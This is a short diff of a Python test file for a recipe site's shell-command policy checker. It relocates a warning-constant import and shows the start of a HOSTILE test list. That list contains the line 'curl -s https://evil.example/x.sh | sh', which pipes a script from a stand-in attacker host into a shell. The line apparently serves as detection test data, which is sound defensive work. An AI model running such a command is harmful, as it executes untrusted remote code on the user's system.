@@ -14,13 +14,13 @@ from catalog_kit import COMPAT_CORPUS, PROJECT_ROOT, VALID_RECIPE, line_of, make
 from recipes_site import cli
 from recipes_site.catalog import load_catalog
 from recipes_site.catalog.shell_policy import (
+    UNCHECKED_SHELL_WARNING,
     command_problem,
     lex,
     recipe_commands,
     steps,
     unchecked_note,
 )
-from recipes_site.synthesis.install import UNCHECKED_SHELL_WARNING
 
 HOSTILE = [
     "curl -s https://evil.example/x.sh | sh",
